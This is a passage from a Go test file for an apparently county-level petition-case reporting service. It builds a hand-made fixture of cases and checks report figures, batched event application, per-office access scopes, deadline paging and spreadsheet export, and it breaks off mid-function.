package server

import (
	"bytes"
	"context"
	"encoding/csv"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/jackc/pgx/v5"
	"github.com/xuri/excelize/v2"
	"google.golang.org/grpc/codes"
	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/testing/protocmp"
	"google.golang.org/protobuf/types/known/timestamppb"

	assignmentv1 "github.com/tongban/tongban/proto/tongban/assignment/v1"
	eventsv1 "github.com/tongban/tongban/proto/tongban/events/v1"
	intakev1 "github.com/tongban/tongban/proto/tongban/intake/v1"
	reportingv1 "github.com/tongban/tongban/proto/tongban/reporting/v1"
	"github.com/tongban/tongban/services/county/calendar"
	"github.com/tongban/tongban/services/county/directory"
	"github.com/tongban/tongban/services/devkit/authtest"
	"github.com/tongban/tongban/services/devkit/pgtest"
	"github.com/tongban/tongban/services/platform/outbox"
	"github.com/tongban/tongban/services/platform/pgdb"
	"github.com/tongban/tongban/services/platform/rpcerr"
	"github.com/tongban/tongban/services/reporting/internal/store"
	"github.com/tongban/tongban/services/reporting/migrations"
)

var testDB *pgtest.Instance

func TestMain(m *testing.M) {
	testDB = pgtest.MustStart("reporting", migrations.Set)
	code := m.Run()
	testDB.MustClose()
	os.Exit(code)
}

// china is a time in China.
func china(y int, m time.Month, d, h int) time.Time {
	return time.Date(y, m, d, h, 0, 0, 0, calendar.China)
}

func ts(t time.Time) *timestamppb.Timestamp { return timestamppb.New(t) }

type fixture struct {
	t   *testing.T
	s   *Server
	seq map[string]int64
	evs []*eventsv1.Event
	// batch is the number of events applied per transaction, as a
	// consumer does (pipelined, through Begin); 0 applies each with Record
	// in a plain transaction.
	batch int
}

func (f *fixture) add(num string, at time.Time, ev *eventsv1.Event) {
	ev.CaseNumber, ev.OccurTime = num, ts(at)
	f.evs = append(f.evs, ev)
}

func (f *fixture) register(num, township string, ch intakev1.Channel, class intakev1.CaseClass, topic string, heads int32, repeat bool, received time.Time) {
	f.registerAt(num, township, township, ch, class, topic, heads, repeat, received)
}

// registerAt is register at office, which need not be the township's.
func (f *fixture) registerAt(num, township, office string, ch intakev1.Channel, class intakev1.CaseClass, topic string, heads int32, repeat bool, received time.Time) {
	r := &eventsv1.CaseRegistered{
		County: "330421", Township: township, Channel: ch, CaseClass: class, Topic: topic, HeadCount: heads,
		Group: heads >= 5, ReceiveTime: ts(received), RegisteredBy: "offices/" + office,
	}
	if repeat {
		r.RepeatOf = "cases/330421-2025-000001"
	}
	f.add(num, received, &eventsv1.Event{Payload: &eventsv1.Event_CaseRegistered{CaseRegistered: r}})
}

func (f *fixture) move(num, township string, a assignmentv1.Action, to assignmentv1.CaseState, holder string, at time.Time, rating assignmentv1.Rating) {
	f.seq[num]++
	f.add(num, at, &eventsv1.Event{Payload: &eventsv1.Event_CaseMoved{CaseMoved: &eventsv1.CaseMoved{
		County: "330421", Township: township, Rating: rating,
		Entry: &assignmentv1.HistoryEntry{Sequence: f.seq[num], Action: a, Time: ts(at), ToState: to, ToOffice: "offices/" + holder},
	}}})
}

func (f *fixture) clock(num string, kind assignmentv1.ClockKind, office string, due time.Time, stop *time.Time, overdue bool) {
	d := &assignmentv1.Deadline{Kind: kind, Office: "offices/" + office, StartTime: ts(due.AddDate(0, 0, -15)), DueTime: ts(due), Overdue: overdue, Rule: "test"}
	at := due.AddDate(0, 0, -15)
	if stop != nil {
		d.StopTime, at = ts(*stop), *stop
	}
	f.add(num, at, &eventsv1.Event{Payload: &eventsv1.Event_ClockChanged{ClockChanged: &eventsv1.ClockChanged{County: "330421", Deadline: d}}})
}

func (f *fixture) meeting(kind eventsv1.LeaderMeetingKind, leader, office string, day time.Time) {
	f.add("330421-2026-000099", day, &eventsv1.Event{Payload: &eventsv1.Event_LeaderMeeting{LeaderMeeting: &eventsv1.LeaderMeeting{
		County: "330421", Kind: kind, Leader: leader, Office: "offices/" + office, Date: ts(day),
	}}})
}

func (f *fixture) apply(evs []*eventsv1.Event) {
	ctx := context.Background()
	if f.batch == 0 {
		for _, ev := range evs {
			if err := pgdb.InTx(ctx, f.s.Store.Pool, func(tx pgx.Tx) error { return f.s.Record(ctx, tx, ev) }); err != nil {
				f.t.Fatal(err)
			}
		}
		return
	}
	for chunk := range slices.Chunk(evs, f.batch) {
		err := pgdb.InPipeline(ctx, f.s.Store.Pool, func(tx pgx.Tx) error {
			return outbox.ApplyBatch(ctx, tx, f.s.Begin, chunk...)
		})
		if err != nil {
			f.t.Fatal(err)
		}
	}
}

const (
	dayun  = "330421102"
	xitang = "330421103"
	zjj    = "330421.zjj"
	rsj    = "330421.rsj"
	bureau = "330421.xfj"
)

// newFixture builds the hand-made county of the figure tests (see
// TestReportFixture for what each case adds up to) and applies its events
// with each case's moves and clocks before its registration, as feeds read
// at different speeds deliver them.
func newFixture(t *testing.T) *fixture { return newBatchedFixture(t, 0) }

// newBatchedFixture is newFixture with batch events per transaction.
func newBatchedFixture(t *testing.T, batch int) *fixture {
	f := &fixture{t: t, seq: map[string]int64{}, batch: batch, s: &Server{
		Store: &store.Store{Pool: testDB.NewDatabase(t)}, Dir: directory.Demo(),
		Now: func() time.Time { return china(2026, 3, 16, 10) },
	}}
	var (
		cl                                       = intakev1.CaseClass_CASE_CLASS_CLAIM
		A, B, C, D, E, F                         = "330421-2026-000001", "330421-2026-000002", "330421-2026-000003", "330421-2025-000004", "330421-2026-000005", "330421-2026-000006"
		G, H                                     = "330421-2026-000007", "330421-2024-000008"
		reg, up, route, sign, answer, eval, decl = assignmentv1.Action_ACTION_REGISTER, assignmentv1.Action_ACTION_REFER_UP, assignmentv1.Action_ACTION_ROUTE, assignmentv1.Action_ACTION_SIGN_FOR, assignmentv1.Action_ACTION_ANSWER, assignmentv1.Action_ACTION_EVALUATE, assignmentv1.Action_ACTION_DECLINE
		closeA, review                           = assignmentv1.Action_ACTION_CLOSE, assignmentv1.Action_ACTION_REQUEST_REVIEW
		none                                     = assignmentv1.Rating_RATING_UNSPECIFIED
		st                                       = func(s assignmentv1.CaseState) assignmentv1.CaseState { return s }
		stop                                     = func(t time.Time) *time.Time { return &t }
	)
	// A: 大云镇, visit, a claim about property management; referred up,
	// routed to 住建局, answered on time, satisfied, closed.
	f.move(A, dayun, reg, st(assignmentv1.CaseState_CASE_STATE_REGISTERED), dayun, china(2026, 2, 10, 9), none)
	f.move(A, dayun, up, st(assignmentv1.CaseState_CASE_STATE_REGISTERED), bureau, china(2026, 2, 10, 11), none)
	f.move(A, dayun, route, st(assignmentv1.CaseState_CASE_STATE_ROUTED), bureau, china(2026, 2, 11, 9), none)
	f.move(A, dayun, sign, st(assignmentv1.CaseState_CASE_STATE_IN_HANDLING), zjj, china(2026, 2, 12, 9), none)
	f.move(A, dayun, answer, st(assignmentv1.CaseState_CASE_STATE_ANSWERED), zjj, china(2026, 2, 25, 9), none)
	f.move(A, dayun, eval, st(assignmentv1.CaseState_CASE_STATE_EVALUATED), zjj, china(2026, 2, 26, 9), assignmentv1.Rating_RATING_SATISFIED)
	f.move(A, dayun, closeA, st(assignmentv1.CaseState_CASE_STATE_CLOSED), zjj, china(2026, 3, 1, 9), none)
	f.clock(A, assignmentv1.ClockKind_CLOCK_KIND_ROUTING, bureau, china(2026, 2, 25, 23), stop(china(2026, 2, 11, 9)), false)
	f.clock(A, assignmentv1.ClockKind_CLOCK_KIND_ACCEPTANCE, zjj, china(2026, 2, 27, 23), stop(china(2026, 2, 12, 9)), false)
	f.clock(A, assignmentv1.ClockKind_CLOCK_KIND_HANDLING, zjj, china(2026, 4, 13, 23), stop(china(2026, 2, 25, 9)), false)
	f.register(A, dayun, intakev1.Channel_CHANNEL_VISIT, cl, "城乡建设/物业管理", 1, false, china(2026, 2, 10, 8))
	// B: 西塘镇, a letter from six people about unpaid wages; routed late
	// to 人社局, answered late, unsatisfied, review asked (its review is
	// overdue now).
	f.move(B, xitang, reg, st(assignmentv1.CaseState_CASE_STATE_REGISTERED), bureau, china(2026, 2, 20, 9), none)
	f.move(B, xitang, route, st(assignmentv1.CaseState_CASE_STATE_ROUTED), bureau, china(2026, 2, 20, 10), none)
	f.move(B, xitang, sign, st(assignmentv1.CaseState_CASE_STATE_IN_HANDLING), rsj, china(2026, 2, 21, 9), none)
	f.move(B, xitang, answer, st(assignmentv1.CaseState_CASE_STATE_ANSWERED), rsj, china(2026, 2, 27, 9), none)
	f.move(B, xitang, eval, st(assignmentv1.CaseState_CASE_STATE_EVALUATED), rsj, china(2026, 2, 28, 9), assignmentv1.Rating_RATING_UNSATISFIED)
	f.move(B, xitang, review, st(assignmentv1.CaseState_CASE_STATE_REVIEW_REQUESTED), bureau, china(2026, 3, 1, 9), none)
	f.clock(B, assignmentv1.ClockKind_CLOCK_KIND_ROUTING, bureau, china(2026, 2, 19, 23), nil, true) // went overdue…
	f.clock(B, assignmentv1.ClockKind_CLOCK_KIND_ROUTING, bureau, china(2026, 2, 19, 23), stop(china(2026, 2, 20, 10)), true)
	f.clock(B, assignmentv1.ClockKind_CLOCK_KIND_HANDLING, rsj, china(2026, 2, 26, 23), stop(china(2026, 2, 27, 9)), true)
	f.clock(B, assignmentv1.ClockKind_CLOCK_KIND_REVIEW, bureau, china(2026, 3, 10, 23), nil, false)
	f.register(B, xitang, intakev1.Channel_CHANNEL_LETTER, cl, "劳动社保/欠薪", 6, false, china(2026, 2, 20, 8))
	// C: 大云镇, phone, a suggestion, a repeat; declined.
	f.register(C, dayun, intakev1.Channel_CHANNEL_PHONE, intakev1.CaseClass_CASE_CLASS_SUGGESTION, "", 1, true, china(2026, 3, 2, 8))
	f.move(C, dayun, reg, st(assignmentv1.CaseState_CASE_STATE_REGISTERED), dayun, china(2026, 3, 2, 9), none)
	f.move(C, dayun, decl, st(assignmentv1.CaseState_CASE_STATE_DECLINED), dayun, china(2026, 3, 3, 9), none)
	f.clock(C, assignmentv1.ClockKind_CLOCK_KIND_REVIEW, bureau, china(2026, 3, 20, 23), stop(china(2026, 3, 3, 9)), false) // after its registration
	// D: a year earlier, answered. E: the month before the period.
	f.register(D, dayun, intakev1.Channel_CHANNEL_VISIT, cl, "", 2, false, china(2025, 2, 5, 8))
	f.move(D, dayun, reg, st(assignmentv1.CaseState_CASE_STATE_REGISTERED), dayun, china(2025, 2, 5, 9), none)
	f.move(D, dayun, answer, st(assignmentv1.CaseState_CASE_STATE_ANSWERED), dayun, china(2025, 2, 15, 9), none)
	f.register(E, xitang, intakev1.Channel_CHANNEL_WEB, intakev1.CaseClass_CASE_CLASS_ACCUSATION, "", 1, false, china(2026, 1, 15, 8))
	// F: 西塘镇, a visit; its routing clock is due the day after tomorrow.
	f.clock(F, assignmentv1.ClockKind_CLOCK_KIND_ROUTING, bureau, china(2026, 3, 17, 23), nil, false)
	f.register(F, xitang, intakev1.Channel_CHANNEL_VISIT, cl, "", 1, false, china(2026, 3, 12, 8))
	f.move(F, xitang, reg, st(assignmentv1.CaseState_CASE_STATE_REGISTERED), bureau, china(2026, 3, 12, 9), none)
	// G: an accusation about 西塘镇 that the bureau registered and holds:
	// it concerns 西塘镇, which may not open it, nor count it.
	f.registerAt(G, xitang, bureau, intakev1.Channel_CHANNEL_WEB, intakev1.CaseClass_CASE_CLASS_ACCUSATION, "", 1, false, china(2026, 3, 5, 8))
	f.move(G, xitang, reg, st(assignmentv1.CaseState_CASE_STATE_REGISTERED), bureau, china(2026, 3, 5, 9), none)
	// H: the county's records begin with it, in June 2024.
	f.register(H, dayun, intakev1.Channel_CHANNEL_VISIT, cl, "", 1, false, china(2024, 6, 10, 8))
	f.move(H, dayun, reg, st(assignmentv1.CaseState_CASE_STATE_REGISTERED), dayun, china(2024, 6, 10, 9), none)
	// Leaders: 张三 met two petitioners on reception days and made an
	// appointment; 李四 made one; a meeting outside the period.
	f.meeting(eventsv1.LeaderMeetingKind_LEADER_MEETING_KIND_RECEPTION, "张三", bureau, china(2026, 3, 2, 0))
	f.meeting(eventsv1.LeaderMeetingKind_LEADER_MEETING_KIND_RECEPTION, "张三", bureau, china(2026, 3, 2, 0))
	f.meeting(eventsv1.LeaderMeetingKind_LEADER_MEETING_KIND_APPOINTMENT, "张三", bureau, china(2026, 2, 9, 0))
	f.meeting(eventsv1.LeaderMeetingKind_LEADER_MEETING_KIND_APPOINTMENT, "李四", xitang, china(2026, 2, 9, 0))
	f.meeting(eventsv1.LeaderMeetingKind_LEADER_MEETING_KIND_APPOINTMENT, "李四", xitang, china(2026, 4, 1, 0))
	f.apply(f.evs)
	return f
}

// TestReportFixture checks every figure of a county's report against
// counts made by hand from the fixture.
func TestReportFixture(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	got, err := f.s.GetReport(authtest.As(t, "demo-bureau"), &reportingv1.GetReportRequest{County: "counties/330421", StartMonth: "2026-02", EndMonth: "2026-03"})
	if err != nil {
		t.Fatal(err)
	}
	r := got.GetReport()
	want := &reportingv1.Report{
		County: "330421", StartMonth: "2026-02", EndMonth: "2026-03",
		// A, B, C, F, G. Resolved: A (closed, satisfied), of the four not
		// declined.
		Figures: &reportingv1.Figures{
			Cases: 5, Persons: 10, GroupCases: 1, ReferredUp: 1, Repeats: 1, Answered: 2, Closed: 1, Declined: 1,
			Evaluated: 2, Satisfied: 1, Unsatisfied: 1, Reviews: 1,
			RoutingOnTime: 1, RoutingLate: 1, AcceptanceOnTime: 1, HandlingOnTime: 1, HandlingLate: 1, Resolved: 1,
			TimelyRoutingRate: proto.Float64(0.5), TimelyAcceptanceRate: proto.Float64(1), OnTimeAnswerRate: proto.Float64(0.5),
			ClosedRate: proto.Float64(0.4), EvaluationRate: proto.Float64(1), SatisfactionRate: proto.Float64(0.5), ResolutionRate: proto.Float64(0.25),
		},
		// D; E.
		YearAgo:                   &reportingv1.Figures{Cases: 1, Persons: 2, Answered: 1, EvaluationRate: proto.Float64(0), ClosedRate: proto.Float64(0), ResolutionRate: proto.Float64(0)},
		Previous:                  &reportingv1.Figures{Cases: 1, Persons: 1, ClosedRate: proto.Float64(0), ResolutionRate: proto.Float64(0)},
		CasesChangeYearOnYear:     proto.Float64(4),
		CasesChangePeriodOnPeriod: proto.Float64(4),
		YearAgoStartMonth:         "2025-02", YearAgoEndMonth: "2025-03", PreviousStartMonth: "2025-12", PreviousEndMonth: "2026-01",
		RecordsStartMonth: "2024-06",
		Months:            []*reportingv1.Count{{Key: "2026-02", Label: "2026-02", Cases: 2, Persons: 7}, {Key: "2026-03", Label: "2026-03", Cases: 3, Persons: 3}},
		MonthsYearAgo:     []*reportingv1.Count{{Key: "2025-02", Label: "2025-02", Cases: 1, Persons: 2}, {Key: "2025-03", Label: "2025-03"}},
		Channels: []*reportingv1.Count{
			{Key: "CHANNEL_VISIT", Label: "走访", Cases: 2, Persons: 2}, {Key: "CHANNEL_LETTER", Label: "来信", Cases: 1, Persons: 6},
			{Key: "CHANNEL_PHONE", Label: "来电", Cases: 1, Persons: 1}, {Key: "CHANNEL_WEB", Label: "网上", Cases: 1, Persons: 1}, {Key: "CHANNEL_REFERRAL", Label: "转入"},
		},
		Classes: []*reportingv1.Count{
			{Key: "CASE_CLASS_SUGGESTION", Label: "建议意见", Cases: 1, Persons: 1}, {Key: "CASE_CLASS_ACCUSATION", Label: "检举控告", Cases: 1, Persons: 1},
			{Key: "CASE_CLASS_CLAIM", Label: "申诉求决", Cases: 3, Persons: 8},
		},
		Topics: []*reportingv1.Count{
			{Key: "", Label: "未分类", Cases: 3, Persons: 3}, {Key: "劳动社保/欠薪", Label: "劳动社保/欠薪", Cases: 1, Persons: 6},
			{Key: "城乡建设/物业管理", Label: "城乡建设/物业管理", Cases: 1, Persons: 1},
		},
		OverdueNow: 1, // B's review
		AtRiskNow:  1, // F's routing
		AsOf:       ts(china(2026, 4, 1, 0)),
		Leaders: []*reportingv1.LeaderFigures{
			{Leader: "张三", Office: "offices/330421.xfj", OfficeTitle: "嘉善县信访局", ReceptionMeetings: 2, Appointments: 1},
			{Leader: "李四", Office: "offices/330421103", OfficeTitle: "西塘镇", Appointments: 1},
		},
	}
	ignore := protocmp.IgnoreFields(&reportingv1.Report{}, "townships", "departments")
	if diff := cmp.Diff(want, r, protocmp.Transform(), ignore); diff != "" {
		t.Errorf("report (-want +got):\n%s", diff)
	}
	// Rankings: the townships by cases (西塘镇: B, F, G; 大云镇: A, C), and
	// the departments that held A and B.
	var towns, depts []string
	for _, u := range r.GetTownships() {
		towns = append(towns, u.GetTitle()+":"+u.GetFigures().String())
	}
	for _, u := range r.GetDepartments() {
		depts = append(depts, u.GetOffice())
	}
	if len(towns) != 2 || !strings.HasPrefix(towns[0], "西塘镇:") || !strings.HasPrefix(towns[1], "大云镇:") ||
		r.GetTownships()[0].GetFigures().GetCases() != 3 || r.GetTownships()[0].GetFigures().GetPersons() != 8 || r.GetTownships()[1].GetFigures().GetCases() != 2 {
		t.Errorf("township ranking: %v", towns)
	}
	if !slices.Equal(depts, []string{"offices/330421.rsj", "offices/330421.zjj"}) || r.GetDepartments()[0].GetFigures().GetHandlingLate() != 1 {
		t.Errorf("department ranking: %v", r.GetDepartments())
	}

	// The incremental aggregates equal a recomputation from the cases.
	before := dumpAggregates(t, f.s.Store)
	if err := pgdb.InTx(context.Background(), f.s.Store.Pool, func(tx pgx.Tx) error { return f.s.Store.RecomputeAggregates(context.Background(), tx) }); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(before, dumpAggregates(t, f.s.Store)); diff != "" {
		t.Errorf("incremental aggregates differ from recomputed (-incremental +recomputed):\n%s", diff)
	}
}

// TestBatches: the fixture's events applied in batches of a consumer's
// transaction (in any mix of feeds and cases, a case's registration, moves
// and clocks in one batch or spread over several) leave the same read model
// as one event per transaction, and its aggregates still equal a
// recomputation.
func TestBatches(t *testing.T) {
	t.Parallel()
	want := dumpReadModel(t, newFixture(t).s.Store)
	if len(want) < 30 {
		t.Fatalf("the fixture's read model has only %d rows", len(want))
	}
	for _, size := range []int{0, 1, 2, 3, 7, 1000} {
		s := newBatchedFixture(t, size).s.Store
		// Every clock has its case's township, whether the clock came
		// before the registration, after it in the same batch or later.
		var without int
		if err := s.Pool.QueryRow(context.Background(), `SELECT count(*) FROM case_clocks WHERE township = ''`).Scan(&without); err != nil || without != 0 {
			t.Errorf("batches of %d: %d clocks without a township (%v)", size, without, err)
		}
		if size == 0 {
			continue
		}
		if diff := cmp.Diff(want, dumpReadModel(t, s)); diff != "" {
			t.Errorf("batches of %d (-one event per transaction +batched):\n%s", size, diff)
		}
		before := dumpAggregates(t, s)
		if err := pgdb.InTx(context.Background(), s.Pool, func(tx pgx.Tx) error { return s.RecomputeAggregates(context.Background(), tx) }); err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(before, dumpAggregates(t, s)); diff != "" {
			t.Errorf("batches of %d: incremental aggregates differ from recomputed (-incremental +recomputed):\n%s", size, diff)
		}
	}
}

// dumpReadModel lists every row of the read model (zero aggregate rows
// left out) in a canonical order.
func dumpReadModel(t *testing.T, s *store.Store) []string {
	t.Helper()
	return append(dumpAggregates(t, s), dumpRows(t, s,
		`SELECT format('%s', f) FROM cases f ORDER BY 1`,
		`SELECT format('%s', f) FROM case_clocks f ORDER BY 1`,
		`SELECT format('%s', f) FROM monthly_leaders f ORDER BY 1`,
		`SELECT format('%s', as_of) FROM read_model`)...)
}

// dumpAggregates lists the non-zero aggregate rows in a canonical order.
func dumpAggregates(t *testing.T, s *store.Store) []string {
	t.Helper()
	return dumpRows(t, s,
		`SELECT format('%s', f) FROM monthly_figures f WHERE cases <> 0 ORDER BY 1`,
		`SELECT format('%s', f) FROM monthly_departments f WHERE cases <> 0 ORDER BY 1`,
		`SELECT format('%s', f) FROM monthly_topics f WHERE cases <> 0 ORDER BY 1`,
		`SELECT format('%s', f) FROM monthly_offices f WHERE cases <> 0 ORDER BY 1`,
		`SELECT format('%s', f) FROM monthly_office_topics f WHERE cases <> 0 ORDER BY 1`,
		`SELECT format('%s', f) FROM running_clock_days f WHERE clocks <> 0 ORDER BY 1`)
}

// dumpRows runs queries of one text column and lists their rows.
func dumpRows(t *testing.T, s *store.Store, queries ...string) []string {
	t.Helper()
	var out []string
	for _, q := range queries {
		rows, err := s.Pool.Query(context.Background(), q)
		if err != nil {
			t.Fatal(err)
		}
		lines, err := pgx.CollectRows(rows, pgx.RowTo[string])
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, lines...)
	}
	return out
}

// TestScopes checks who sees what: a township or a department the cases
// it may list (a case about 西塘镇 that only the bureau holds is not among
// 西塘镇's), the bureau a township's cases or a department's, and the
// refusals.
func TestScopes(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	get := func(token string, req *reportingv1.GetReportRequest) (*reportingv1.Report, error) {
		req.County, req.StartMonth, req.EndMonth = "counties/330421", "2026-02", "2026-03"
		r, err := f.s.GetReport(authtest.As(t, token), req)
		return r.GetReport(), err
	}
	// 西塘镇 registered B and F; G, about it, is the bureau's.
	own, err := get("demo-xitang", &reportingv1.GetReportRequest{})
	if err != nil || own.GetOffice() != "offices/330421103" || own.GetTownship() != "" ||
		own.GetFigures().GetCases() != 2 || own.GetFigures().GetPersons() != 7 || len(own.GetTownships()) != 1 || own.GetOverdueNow() != 1 ||
		own.GetClasses()[1].GetCases() != 0 || own.GetPrevious().GetCases() != 1 {
		t.Errorf("西塘镇 sees the cases it may list: %v, %v", own, err)
	}
	if again, err := get("demo-xitang", &reportingv1.GetReportRequest{Township: xitang}); err != nil || !proto.Equal(again, own) {
		t.Errorf("西塘镇 naming itself: %v, %v", again, err)
	}
	if r, err := get("demo-bureau", &reportingv1.GetReportRequest{Township: xitang}); err != nil || r.GetOffice() != "" || r.GetFigures().GetCases() != 3 {
		t.Errorf("the bureau limits to the cases concerning 西塘镇 (B, F, G): %v, %v", r, err)
	}
	rsjOwn, err := get("demo-rsj", &reportingv1.GetReportRequest{})
	if err != nil || rsjOwn.GetDepartment() != "offices/330421.rsj" || rsjOwn.GetOffice() != "offices/330421.rsj" ||
		rsjOwn.GetFigures().GetCases() != 1 || rsjOwn.GetFigures().GetHandlingLate() != 1 || rsjOwn.GetChannels()[1].GetCases() != 1 {
		t.Errorf("人社局 sees its own cases: %v, %v", rsjOwn, err)
	}
	if r, err := get("demo-bureau", &reportingv1.GetReportRequest{Department: "offices/330421.rsj"}); err != nil || !proto.Equal(r, rsjOwn) {
		t.Errorf("the bureau sees 人社局's figures as 人社局 does: %v, %v", r, err)
	}
	if r, err := get("demo-bureau", &reportingv1.GetReportRequest{Township: dayun}); err != nil || r.GetFigures().GetCases() != 2 {
		t.Errorf("the bureau limits to 大云镇: %v, %v", r, err)
	}
	for _, c := range []struct {
		name, token string
		req         *reportingv1.GetReportRequest
		code        codes.Code
		reason      string
	}{
		{"a township asks for another", "demo-xitang", &reportingv1.GetReportRequest{Township: dayun}, codes.PermissionDenied, "OTHER_TOWNSHIP"},
		{"a township asks for a department's", "demo-xitang", &reportingv1.GetReportRequest{Department: "offices/330421.rsj"}, codes.PermissionDenied, "OTHER_DEPARTMENT"},
		{"a department asks for another", "demo-rsj", &reportingv1.GetReportRequest{Department: "offices/330421.zjj"}, codes.PermissionDenied, "OTHER_DEPARTMENT"},
		{"an unknown township", "demo-bureau", &reportingv1.GetReportRequest{Township: "330421999"}, codes.InvalidArgument, ""},
		{"a township as a department", "demo-bureau", &reportingv1.GetReportRequest{Department: "offices/330421102"}, codes.InvalidArgument, ""},
	} {
		if _, err := get(c.token, c.req); rpcerr.Code(err) != c.code {
			t.Errorf("%s: %v", c.name, err)
		}
	}
	for _, c := range []struct{ start, end string }{{"2026-13", "2026-03"}, {"2026-03", "2026-02"}, {"2020-01", "2026-03"}, {"26-01", ""}} {
		_, err := f.s.GetReport(authtest.As(t, "demo-bureau"), &reportingv1.GetReportRequest{County: "counties/330421", StartMonth: c.start, EndMonth: c.end})
		if rpcerr.Code(err) != codes.InvalidArgument {
			t.Errorf("period %s..%s: %v", c.start, c.end, err)
		}
	}
	if _, err := f.s.GetReport(authtest.As(t, "demo-bureau"), &reportingv1.GetReportRequest{County: "counties/330681"}); rpcerr.Code(err) != codes.InvalidArgument {
		t.Errorf("another county: %v", err)
	}
	// The all-time summary: open is not ended (A closed, C declined).
	sum, err := f.s.GetSummary(authtest.As(t, "demo-bureau"), &reportingv1.GetSummaryRequest{Name: "counties/330421/summary"})
	if err != nil || sum.GetSummary().GetRegistered() != 8 || sum.GetSummary().GetReferredUp() != 1 || sum.GetSummary().GetAnswered() != 3 ||
		sum.GetSummary().GetTransferred() != 2 || sum.GetSummary().GetOpen() != 6 || len(sum.GetSummary().GetTownships()) != 2 {
		t.Errorf("summary: %v, %v", sum, err)
	}
	// 西塘镇's: B, E and F, not G.
	sum, err = f.s.GetSummary(authtest.As(t, "demo-xitang"), &reportingv1.GetSummaryRequest{Name: "counties/330421/summary"})
	if err != nil || sum.GetSummary().GetRegistered() != 3 || sum.GetSummary().GetOpen() != 3 || sum.GetSummary().GetOffice() != "offices/330421103" {
		t.Errorf("西塘镇's summary: %v, %v", sum, err)
	}
}

// TestDeadlines pages through the overdue and at-risk lists.
func TestDeadlines(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	ctx := authtest.As(t, "demo-bureau")
	od, err := f.s.ListDeadlines(ctx, &reportingv1.ListDeadlinesRequest{County: "counties/330421", Status: reportingv1.DeadlineStatus_DEADLINE_STATUS_OVERDUE})
	if err != nil || len(od.GetDeadlines()) != 1 {
		t.Fatalf("overdue: %v, %v", od, err)
	}
	if d := od.GetDeadlines()[0]; d.GetCase() != "cases/330421-2026-000002" || d.GetTownship() != xitang || d.GetDaysOverdue() != 6 ||
		d.GetDeadline().GetKind() != assignmentv1.ClockKind_CLOCK_KIND_REVIEW || !d.GetDeadline().GetOverdue() {
		t.Errorf("overdue entry: %v", d)
	}
	ar, err := f.s.ListDeadlines(ctx, &reportingv1.ListDeadlinesRequest{County: "counties/330421", Status: reportingv1.DeadlineStatus_DEADLINE_STATUS_AT_RISK})
	if err != nil || len(ar.GetDeadlines()) != 1 || ar.GetDeadlines()[0].GetCase() != "cases/330421-2026-000006" || ar.GetDeadlines()[0].GetTownship() != xitang {
		t.Fatalf("at risk: %v, %v", ar, err)
	}
	// Add overdue clocks and page through them two at a time.
	var more []*eventsv1.Event
	for i := range 5 {
		f.evs = nil
		num := "330421-2026-00010" + string(rune('0'+i))
		f.move(num, dayun, assignmentv1.Action_ACTION_SIGN_FOR, assignmentv1.CaseState_CASE_STATE_IN_HANDLING, zjj, china(2026, 2, 20, 9), assignmentv1.Rating_RATING_UNSPECIFIED)
		f.clock(num, assignmentv1.ClockKind_CLOCK_KIND_HANDLING, zjj, china(2026, 3, 1+i, 23), nil, true)
		more = append(more, f.evs...)
	}
	f.apply(more)
	var seen []string
	token := ""
	for range 10 {
		page, err := f.s.ListDeadlines(ctx, &reportingv1.ListDeadlinesRequest{County: "counties/330421", Status: reportingv1.DeadlineStatus_DEADLINE_STATUS_OVERDUE, PageSize: 2, PageToken: token})
		if err != nil {
			t.Fatal(err)
		}
		for _, d := range page.GetDeadlines() {
			seen = append(seen, d.GetCase())
		}
		if token = page.GetNextPageToken(); token == "" {
			break
		}
	}
	want := []string{"cases/330421-2026-000100", "cases/330421-2026-000101", "cases/330421-2026-000102", "cases/330421-2026-000103", "cases/330421-2026-000104", "cases/330421-2026-000002"}
	if !slices.Equal(seen, want) {
		t.Errorf("pages: %v, want %v", seen, want)
	}
	// A department sees its own; bad input is refused.
	zj, err := f.s.ListDeadlines(authtest.As(t, "demo-zjj"), &reportingv1.ListDeadlinesRequest{County: "counties/330421", Status: reportingv1.DeadlineStatus_DEADLINE_STATUS_OVERDUE})
	if err != nil || len(zj.GetDeadlines()) != 5 {
		t.Errorf("住建局's overdue: %v, %v", zj, err)
	}
	for _, req := range []*reportingv1.ListDeadlinesRequest{
		{County: "counties/330421"},
		{County: "counties/330421", Status: reportingv1.DeadlineStatus_DEADLINE_STATUS_OVERDUE, PageToken: "bogus"},
		{County: "counties/330421", Status: reportingv1.DeadlineStatus_DEADLINE_STATUS_OVERDUE, Office: "offices/nowhere"},
	} {
		if _, err := f.s.ListDeadlines(ctx, req); rpcerr.Code(err) != codes.InvalidArgument {
			t.Errorf("%v: %v", req, err)
		}
	}
	if _, err := f.s.ListDeadlines(authtest.As(t, "demo-zjj"), &reportingv1.ListDeadlinesRequest{County: "counties/330421", Status: reportingv1.DeadlineStatus_DEADLINE_STATUS_OVERDUE, Office: "offices/330421.rsj"}); rpcerr.Code(err) != codes.PermissionDenied {
		t.Errorf("a department asks for another's: %v", err)
	}
}

// TestExport reads the XLSX and the CSV of February back and finds the
// report's figures in both.
func TestExport(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	ctx := authtest.As(t, "demo-bureau")
	x, err := f.s.ExportMonthlyReport(ctx, &reportingv1.ExportMonthlyReportRequest{County: "counties/330421", Month: "2026-02"})
	if err != nil {
		t.Fatal(err)
	}
	book, err := excelize.OpenReader(bytes.NewReader(x.GetData()))
	if err != nil {
		t.Fatal(err)
	}
	xrows, err := book.GetRows("月报")
	if err != nil {
		t.Fatal(err)
	}
	c, err := f.s.ExportMonthlyReport(ctx, &reportingv1.ExportMonthlyReportRequest{County: "counties/330421", Month: "2026-02", Format: reportingv1.ExportFormat_EXPORT_FORMAT_CSV})
	if err != nil || c.GetContentType() != "text/csv; charset=utf-8" || !bytes.HasPrefix(c.GetData(), []byte("\ufeff")) {
		t.Fatalf("csv: %v", err)
	}
	cr := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(c.GetData(), []byte("\ufeff"))))
	cr.FieldsPerRecord = -1
	crows, err := cr.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	find := func(rows [][]string, label string) []string {
